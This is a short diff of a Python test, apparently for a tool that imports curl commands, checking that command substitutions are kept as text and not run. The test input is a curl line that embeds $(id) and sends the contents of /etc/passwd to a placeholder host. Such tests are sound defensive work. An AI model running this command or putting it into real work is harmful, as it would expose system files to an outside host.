@@ -44,7 +44,7 @@ def test_what_was_left_out_is_said():
 def test_nothing_is_run():
     """A command in $( ) or backquotes stays text, and that is said."""
     found = imported("curl", 'curl https://a.example/$(id)/`id` -d "$(cat /etc/passwd)"')
-    assert found.data["a-example"]["steps"][0]["http"]["form"] == {"$(cat /etc/passwd)": ""} or "$(cat /etc/passwd)" in str(found.data)
+    assert "$(cat /etc/passwd)" in found.data["a-example"]["steps"][0]["http"]["body"]
     assert found.said[0] == "file:1: line 1: a command in $( ) is not run; what stands there was carried over as text"
 
 
